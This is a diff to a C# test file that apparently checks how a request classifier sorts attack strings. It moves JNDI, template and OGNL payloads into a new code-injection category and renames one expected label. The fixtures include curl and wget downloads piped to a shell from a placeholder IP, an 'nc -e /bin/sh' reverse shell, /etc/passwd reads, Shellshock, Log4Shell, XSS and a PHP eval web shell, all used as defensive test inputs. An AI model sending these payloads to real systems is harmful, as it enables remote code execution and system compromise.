@@ -36,9 +36,13 @@ public sealed class AttackReplayTests(ITestOutputHelper output)
         ]),
         (VisitorCategory.CommandExecution,
         [
-            ";id", "|cat /etc/passwd", "`whoami`", "$(curl http://198.51.100.7/x.sh|sh)", "1;wget http://198.51.100.7/a.sh -O /tmp/a", "& ping -c 10 127.0.0.1 && id", "|| uname -a", "${jndi:ldap://198.51.100.7/a}",
-            "${${lower:j}ndi:ldap://x/a}", "() { :;}; /bin/bash -c id", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "cmd.exe /c dir", "powershell -enc AAAA", "/bin/sh -i", ";cat${IFS}/etc/passwd", "%{(#a=@java.lang.Runtime@getRuntime())}",
-            "class.module.classLoader.resources", "`nslookup x.example`", ";nc -e /bin/sh 198.51.100.7 4444",
+            ";id", "|cat /etc/passwd", "`whoami`", "$(curl http://198.51.100.7/x.sh|sh)", "1;wget http://198.51.100.7/a.sh -O /tmp/a", "& ping -c 10 127.0.0.1 && id", "|| uname -a",
+            "() { :;}; /bin/bash -c id", "cmd.exe /c dir", "powershell -enc AAAA", "/bin/sh -i", ";cat${IFS}/etc/passwd",
+            "`nslookup x.example`", ";nc -e /bin/sh 198.51.100.7 4444",
+        ]),
+        (VisitorCategory.CodeInjection,
+        [
+            "${jndi:ldap://198.51.100.7/a}", "${${lower:j}ndi:ldap://x/a}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "%{(#a=@java.lang.Runtime@getRuntime())}", "class.module.classLoader.resources",
         ]),
         (VisitorCategory.PhpInjection,
         [
@@ -112,7 +116,7 @@ public sealed class AttackReplayTests(ITestOutputHelper output)
     [InlineData("Mozilla/5.0 zgrab/0.x", "scanner-agent")]
     [InlineData("WPScan v3.8.25 (https://wpscan.com)", "scanner-agent")]
     [InlineData("() { :; }; /bin/bash -c 'id'", "rce-shellshock")]
-    [InlineData("${jndi:ldap://198.51.100.7/a}", "rce-lookup")]
+    [InlineData("${jndi:ldap://198.51.100.7/a}", "code-lookup")]
     [InlineData("}__test|O:21:\\\"JDatabaseDriverMysqli\\\":3:{s:2:\\\"fc\\\"", "php-object")]
     [InlineData("<script>alert(1)</script>", "xss-tag")]
     [InlineData("<?php eval($_POST[1]); ?>", "php-code")]
